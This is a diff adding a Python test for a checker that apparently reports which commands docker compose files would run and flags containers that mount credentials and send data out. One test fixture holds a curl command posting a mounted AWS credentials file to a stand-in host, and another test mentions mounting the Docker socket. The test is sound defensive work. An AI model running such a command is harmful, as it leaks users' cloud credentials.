@@ -49,6 +49,14 @@ def test_what_stays_in_its_container_is_not_told(line: str) -> None:
     assert commands_in({"compose.yaml": _COMPOSE}, line) == []
 
 
+def test_keys_that_a_container_uses_are_told_where_its_command_sends_something() -> None:
+    text = "services: {a: {image: x, volumes: ['~/.aws:/root/.aws'], command: sh -c 'NEXT'}}"
+    assert commands_in({"compose.yml": text.replace("NEXT", "npm start")}, "docker compose up") == []
+    assert commands_in(
+        {"compose.yml": text.replace("NEXT", "curl -d @/root/.aws/x y.example")}, "docker compose up"
+    )
+
+
 def test_the_command_of_a_run_takes_the_place_of_the_one_in_the_file() -> None:
     found = commands_in({"compose.yaml": _COMPOSE}, "docker compose run proxy sh -c 'docker ps'")
     assert any(each.startswith("docker run -v /var/run/docker.sock") for each in found)
